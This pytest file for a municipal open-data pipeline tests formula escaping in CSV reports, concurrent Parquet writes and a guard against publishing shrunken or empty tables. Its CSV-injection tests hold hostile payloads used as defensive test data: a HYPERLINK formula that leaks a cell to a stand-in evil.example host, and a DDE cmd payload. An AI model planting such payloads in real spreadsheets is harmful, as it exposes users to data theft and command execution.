"""Hostile outputs (#11): formulas in the report and the published CSV, concurrent writers of one table or
dataset, and a drop guard that neither a boundary case, an empty table nor the Python API gets past."""

import csv
import io
import multiprocessing
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import dagster as dg
import pandas as pd
import pytest
import yaml

from omv_pipelines.defs import assets
from omv_pipelines.defs.io_manager import ParquetIOManager
from omv_pipelines.errors import OmvError
from omv_pipelines.files import atomic_write
from omv_pipelines.publish.csv_format import escape_formulas, render
from omv_pipelines.publish.export import dataset_lock
from omv_pipelines.publish.safety import PublicationRefused, refusal_reason
from omv_pipelines.publish.targets import ExportTarget, OdwbTarget
from omv_pipelines.schemas import get_schema
from omv_pipelines_tests.odwb_emulator import OdsEmulator
from omv_pipelines_tests.test_normalise.helpers import defibrillators, run_defib
from omv_pipelines_tests.test_publish import record_retry_waits

SCHEMA = get_schema("resilience/defibrillateurs")
METADATA: dict[str, object] = {"title": "Défibrillateurs — Namur", "publisher": "Ville de Namur"}
ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
CALC = "+cmd|' /C calc'!A0"
FORK = multiprocessing.get_context("fork")


def table(rows: int, tag: str = "") -> pd.DataFrame:
    frame = pd.DataFrame({name: pd.Series([None] * rows, dtype="object") for name in SCHEMA.field_names})
    frame["id"] = [f"92094-{n + 1}" for n in range(rows)]
    frame["name"] = [f"DAE {n + 1}{tag}" for n in range(rows)]
    return frame


def read_csv(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    return list(
        csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter)
    )


# ---- 1. CSV injection ---------------------------------------------------------------------------------


def test_the_validation_report_csv_neutralises_every_formula_cell(tmp_path):
    report = pd.DataFrame(
        {
            "source_row": ["2", "3", "4", "5", "6", "7", "8"],
            "field": ["name"] * 7,
            "message": ["bad"] * 7,
            "raw_value": [HYPERLINK, CALC, "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "Rue de Fer"],
        }
    )
    ExportTarget(tmp_path).publish(table(2), SCHEMA, dataset_id="namur-dae", metadata=METADATA, report=report)
    rows = read_csv(tmp_path / "namur-dae.report.csv", delimiter=";")  # the report: `;`, for Excel FR
    assert [r["raw_value"] for r in rows] == [
        "'" + HYPERLINK,
        "'" + CALC,
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1+1",
        "'\r=1+1",
        "Rue de Fer",  # not a formula: unchanged
    ]
    assert [r["source_row"] for r in rows] == report["source_row"].tolist()
    assert report["raw_value"].iloc[0] == HYPERLINK  # the caller's frame is not modified


def test_escaping_leaves_numbers_and_missing_values_alone():
    frame = pd.DataFrame(
        {
            "n": [-3, 4],
            "x": [-1.5, None],
            "text": pd.Series(["-3", None], dtype="string"),
            "obj": ["=1", float("nan")],
        }
    )
    escaped = escape_formulas(frame)
    assert escaped["n"].tolist() == [-3, 4] and escaped["x"].iloc[0] == -1.5
    assert escaped["text"].iloc[0] == "'-3" and pd.isna(escaped["text"].iloc[1])
    assert escaped["obj"].iloc[0] == "'=1" and pd.isna(escaped["obj"].iloc[1])


def test_published_data_keeps_its_values_and_normalise_warns_about_formula_cells():
    data = defibrillators(
        4,
        name=[HYPERLINK, "DAE gare", "DAE 3", "-"],
        building=[CALC, "Hall", "@SUM(1+1)*cmd|' /C calc'!A0", None],
        phone_number=["+32 81 24 60 00", "+3281246000", "-", "081/24.60.00"],
        floor=["-1", "0", "-2", "1"],
        Indoor=["oui", "oui", "oui", "peut-être"],  # the last row is rejected: not published, no warning
    )
    data["street_name"] = ["Rue de Fer", "Rue de Fer", "Rue de Fer", "=1+1"]
    result = run_defib(data)

    formula = result.warnings[result.warnings["error_type"] == "formula_like"]
    assert sorted(zip(formula["source_row"], formula["field"], strict=True)) == [
        ("2", "building"),
        ("2", "name"),
        ("4", "building"),
    ]
    assert (formula["severity"] == "warning").all()
    assert formula.set_index("field").loc["name", "raw_value"] == HYPERLINK
    assert "spreadsheet formula" in formula["message"].iloc[0]
    # Phones, negative numbers and a lone dash are values: no warning; the rejected row gets none either.
    assert not formula["field"].isin(["phone_number", "floor", "street_name"]).any()

    # The published CSV has the values exactly as the source gave them (the standard's values).
    data_bytes, _ = render(result.valid, SCHEMA)
    published = list(csv.DictReader(io.StringIO(data_bytes.decode("utf-8"), newline="")))
    assert [r["name"] for r in published] == [HYPERLINK, "DAE gare", "DAE 3"]
    assert [r["building"] for r in published] == [CALC, "Hall", "@SUM(1+1)*cmd|' /C calc'!A0"]
    assert [r["phone_number"] for r in published] == ["+32 81 24 60 00", "+3281246000", "-"]
    assert [r["floor"] for r in published] == ["-1", "0", "-2"]


def test_the_report_section_of_the_readme_states_the_choice():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "### Spreadsheet formulas in published data" in readme
    assert "formula_like" in readme


# ---- 2. Concurrency -----------------------------------------------------------------------------------

KEY = dg.AssetKey(["resilience", "defibrillateurs"])


def _frame(writer: int, rows: int = 2000) -> pd.DataFrame:
    return pd.DataFrame(
        {"writer": [writer] * rows, "n": range(rows), "text": [f"w{writer}-{n}" * 5 for n in range(rows)]}
    )


def _io_write(base: str, writer: int, rounds: int = 3) -> None:
    manager = ParquetIOManager(base_path=base)
    for _ in range(rounds):
        manager.handle_output(dg.build_output_context(asset_key=KEY, partition_key="92094"), _frame(writer))


def _check_table(path: Path, writes: list[pd.DataFrame]) -> None:
    # A valid Parquet file, or this raises. Read whole from one open file: a path-based reader could take
    # the size of one version and read the next.
    _check_frame(pd.read_parquet(io.BytesIO(path.read_bytes())), writes)


def _check_frame(read: pd.DataFrame, writes: list[pd.DataFrame]) -> None:
    writer = int(read["writer"].iloc[0])
    pd.testing.assert_frame_equal(read, writes[writer], check_dtype=False)


def _no_temporary_files(folder: Path) -> None:
    assert not [p.name for p in folder.rglob("*.tmp")], "a temporary file was left behind"


def _run_concurrently(start, count: int = 8) -> None:
    with ThreadPoolExecutor(count) as pool:
        for future in [pool.submit(start, writer) for writer in range(count)]:
            future.result()  # no FileNotFoundError from a temporary file another writer moved


def _start_processes(target, args_of, count: int = 8) -> list:
    workers = [FORK.Process(target=target, args=args_of(writer)) for writer in range(count)]
    for worker in workers:
        worker.start()
    return workers


def _join(workers: list) -> None:
    for worker in workers:
        worker.join(60)
    assert [w.exitcode for w in workers] == [0] * len(workers)


def _reading(base: Path, writes: list[pd.DataFrame], stop: threading.Event, seen: list[int]) -> None:
    """Reads the table through the IO manager over and over while the writers run: every read is a whole
    table of one writer."""
    manager = ParquetIOManager(base_path=str(base))
    context = dg.build_input_context(asset_key=KEY, partition_key="92094")
    while not stop.is_set():
        try:
            loaded = manager.load_input(context)
        except FileNotFoundError:
            continue  # nothing written yet
        assert isinstance(loaded, pd.DataFrame)
        _check_frame(loaded, writes)
        seen.append(1)


@pytest.mark.parametrize("mode", ["threads", "processes"])
def test_eight_concurrent_writers_of_one_partition_leave_a_valid_table(tmp_path, mode):
    writes = [_frame(writer) for writer in range(8)]
    path = tmp_path / "resilience" / "defibrillateurs" / "92094.parquet"
    stop, seen = threading.Event(), []
    # Processes are forked before the reader thread starts (a fork while a thread runs can deadlock).
    workers = _start_processes(_io_write, lambda w: (str(tmp_path), w)) if mode == "processes" else []
    with ThreadPoolExecutor(1) as readers:
        reader = readers.submit(_reading, tmp_path, writes, stop, seen)
        try:
            if mode == "threads":
                _run_concurrently(lambda writer: _io_write(str(tmp_path), writer))
            else:
                _join(workers)
        finally:
            stop.set()
        reader.result()
    assert seen, "the reader never saw a table"
    _check_table(path, writes)
    manager = ParquetIOManager(base_path=str(tmp_path))
    loaded = manager.load_input(dg.build_input_context(asset_key=KEY, partition_key="92094"))
    assert isinstance(loaded, pd.DataFrame) and len(loaded) == 2000
    _no_temporary_files(tmp_path)


def _atomic_write(path: Path, writer: int) -> None:
    for _ in range(3):
        buffer = io.BytesIO()
        _frame(writer).to_parquet(buffer, index=False)
        atomic_write(path, buffer.getvalue())


@pytest.mark.parametrize("mode", ["threads", "processes"])
def test_eight_concurrent_atomic_writes_leave_one_whole_file(tmp_path, mode):
    writes = [_frame(writer) for writer in range(8)]
    path = tmp_path / "state" / "table.parquet"
    if mode == "threads":
        _run_concurrently(lambda writer: _atomic_write(path, writer))
    else:
        _join(_start_processes(_atomic_write, lambda writer: (path, writer)))
    _check_table(path, writes)
    _no_temporary_files(tmp_path)


def _hold_lock(folder: str, held: str, release: str) -> None:
    with dataset_lock(folder, "namur-dae"):
        Path(held).touch()
        while not Path(release).exists():
            time.sleep(0.05)
        Path(held).write_text(str(time.time()))


def _publish(folder: str, done: str) -> None:
    ExportTarget(folder).publish(table(12), SCHEMA, dataset_id="namur-dae", metadata=METADATA)
    Path(done).write_text(str(time.time()))


def _wait_for(path: Path, seconds: float = 20) -> None:
    deadline = time.monotonic() + seconds
    while not path.exists():
        assert time.monotonic() < deadline, f"{path.name} never appeared"
        time.sleep(0.05)


def test_two_processes_writing_one_dataset_take_turns(tmp_path):
    """The export target locks the dataset around read-compare-write: while one process holds it, another
    process's publish waits, then goes on."""
    held, release, done = tmp_path / "held", tmp_path / "release", tmp_path / "done"
    holder = FORK.Process(target=_hold_lock, args=(str(tmp_path), str(held), str(release)))
    holder.start()
    _wait_for(held)
    writer = FORK.Process(target=_publish, args=(str(tmp_path), str(done)))
    writer.start()
    time.sleep(1.0)
    assert writer.is_alive() and not done.exists(), "the second writer did not wait for the lock"
    assert not (tmp_path / "namur-dae.metadata.json").exists()
    release.touch()
    for process in (holder, writer):
        process.join(30)
        assert process.exitcode == 0
    assert float(done.read_text()) >= float(held.read_text())  # written after the lock was released
    assert (tmp_path / ".locks" / "namur-dae.lock").exists()
    assert ExportTarget(tmp_path).last_publication("namur-dae").row_count == 12


@pytest.mark.parametrize("config", ["dagster.yaml", "deploy/dagster.production.yaml"])
def test_the_instance_runs_one_run_per_commune(config):
    settings = yaml.safe_load((ROOT / config).read_text(encoding="utf-8"))
    limits = settings["concurrency"]["runs"]["tag_concurrency_limits"]
    assert {"key": "omv/commune", "value": {"applyLimitPerUniqueValue": True}, "limit": 1} in limits
    # Run limits live in concurrency.runs only: set in the run coordinator's config they would be overridden.
    coordinator = settings["run_coordinator"].get("config", {})
    assert not {"tag_concurrency_limits", "max_concurrent_runs"} & set(coordinator)


def test_dagster_reads_the_per_commune_limit(tmp_path):
    """Dagster 1.13 accepts the local instance config and applies the limit from `concurrency.runs`."""
    (tmp_path / "dagster.yaml").write_text((ROOT / "dagster.yaml").read_text(encoding="utf-8"))
    with dg.DagsterInstance.from_config(str(tmp_path)) as instance:
        queue = instance.get_concurrency_config().run_queue_config
        assert queue is not None
        assert {
            "key": "omv/commune",
            "value": {"applyLimitPerUniqueValue": True},
            "limit": 1,
        } in queue.tag_concurrency_limits


# ---- 3. The drop guard --------------------------------------------------------------------------------


def test_a_drop_of_exactly_the_allowed_share_is_refused():
    assert refusal_reason(6, 12, 0.5) is not None  # exactly half: refused
    assert refusal_reason(7, 12, 0.5) is None
    assert refusal_reason(8, 10, 0.2) is not None  # 1 - 8/10 is 0.19999999999999996 in floats
    assert refusal_reason(9, 10, 0.2) is None
    assert refusal_reason(12, 12, 0.0) is None and refusal_reason(13, 12, 0.0) is None  # no drop, no refusal
    assert refusal_reason(11, 12, 0.0) is not None
    assert refusal_reason(1, None, 0.5) is None
    assert "empty" in (refusal_reason(0, None, 0.5) or "")


def test_the_export_target_itself_refuses_an_empty_table_and_a_drop(tmp_path):
    """A fresh target object (a new instance, the Python API, the command line): it asks the folder."""
    ExportTarget(tmp_path).publish(table(12), SCHEMA, dataset_id="namur-dae", metadata=METADATA)
    good = (tmp_path / "namur-dae.csv").read_bytes()
    target = ExportTarget(tmp_path)

    with pytest.raises(PublicationRefused) as refused:
        target.publish(table(5), SCHEMA, dataset_id="namur-dae", metadata=METADATA)
    text = str(refused.value)
    assert text.startswith("namur-dae: not published, the table has 5 rows against 12")
    assert "now 5 rows, online 12" in text and "allowed drop below 50%" in text
    assert "force=True" in text and "omv/force_publish=true" in text
    assert "last good publication stays online" in text
    assert isinstance(refused.value, OmvError) and not refused.value.retryable
    assert refused.value.context["dataset_id"] == "namur-dae"

    with pytest.raises(PublicationRefused):
        target.publish(table(6), SCHEMA, dataset_id="namur-dae", metadata=METADATA)  # exactly half
    for force in (False, True):
        with pytest.raises(PublicationRefused) as empty:
            target.publish(table(0), SCHEMA, dataset_id="namur-dae", metadata=METADATA, force=force)
        assert "empty" in str(empty.value) and "force=True" not in str(empty.value)
    assert (tmp_path / "namur-dae.csv").read_bytes() == good
    assert target.last_publication("namur-dae").row_count == 12

    # The catalogue's allowance, then a person's decision.
    assert target.publish(table(7), SCHEMA, dataset_id="namur-dae", metadata=METADATA).row_count == 7
    with pytest.raises(PublicationRefused):
        target.publish(table(5), SCHEMA, dataset_id="namur-dae", metadata=METADATA, max_row_drop=0.2)
    forced = target.publish(table(5), SCHEMA, dataset_id="namur-dae", metadata=METADATA, force=True)
    assert forced.status == "published" and target.last_publication("namur-dae").row_count == 5


def test_an_empty_first_export_is_refused_too(tmp_path):
    with pytest.raises(PublicationRefused):
        ExportTarget(tmp_path).publish(table(0), SCHEMA, dataset_id="namur-dae", metadata=METADATA)
    assert not (tmp_path / "namur-dae.csv").exists()


def test_the_odwb_target_itself_refuses_an_empty_table_and_a_drop(monkeypatch):
    record_retry_waits(monkeypatch)
    with OdsEmulator(queue_delay_s=0.01, processing_delay_s=0.01) as ods:
        OdwbTarget(ods.url, ods.api_key, max_wait_s=10).publish(
            table(12), SCHEMA, dataset_id="namur-dae", metadata=METADATA
        )
        target = OdwbTarget(ods.url, ods.api_key, max_wait_s=10)  # a fresh instance: it asks the portal
        uploads = ods.count("POST", r"/resources/files/?$")
        with pytest.raises(PublicationRefused) as refused:
            target.publish(table(5), SCHEMA, dataset_id="namur-dae", metadata=METADATA)
        assert "5 rows against 12" in str(refused.value) and not refused.value.retryable
        before = len(ods.exchanges)
        with pytest.raises(PublicationRefused):
            target.publish(table(0), SCHEMA, dataset_id="namur-dae", metadata=METADATA, force=True)
        assert len(ods.exchanges) == before  # an empty table is refused without asking anything
        assert ods.count("POST", r"/resources/files/?$") == uploads
        assert target.last_publication("namur-dae").row_count == 12

        forced = target.publish(table(5), SCHEMA, dataset_id="namur-dae", metadata=METADATA, force=True)
        assert forced.status == "published" and target.last_publication("namur-dae").row_count == 5


class _Recorder:
    name = "fake"

    def __init__(self, error: OmvError | None = None):
        self.error = error
        self.calls: list[dict] = []

    def publish(self, table, schema, **kwargs):
        self.calls.append(kwargs)
        if self.error:
            raise self.error
        return assets.Publication(kwargs["dataset_id"], "export", "x", "sha256:0", len(table), "published")


class _Publisher:
    def __init__(self, target):
        self._target = target

    def target(self):
        return self._target


def test_the_assets_pass_the_allowance_and_the_force_tag_and_a_refusal_is_not_retried():
    recorder = _Recorder()
    assets.publish(
        _Publisher(recorder), table(3), SCHEMA, dataset_id="namur-dae", metadata={}, report=None,
        max_row_drop=0.3, force=True,
    )  # fmt: skip
    assert (recorder.calls[0]["max_row_drop"], recorder.calls[0]["force"]) == (0.3, True)

    refusal = PublicationRefused(
        "namur-dae", rows=5, online_rows=12, max_row_drop=0.5, reason="the table has 5 rows against 12"
    )
    with pytest.raises(dg.Failure) as failure:
        assets.publish(
            _Publisher(_Recorder(refusal)), table(5), SCHEMA, dataset_id="namur-dae", metadata={},
            report=None, max_row_drop=0.5,
        )  # fmt: skip
    assert not failure.value.allow_retries and "5 rows against 12" in (failure.value.description or "")
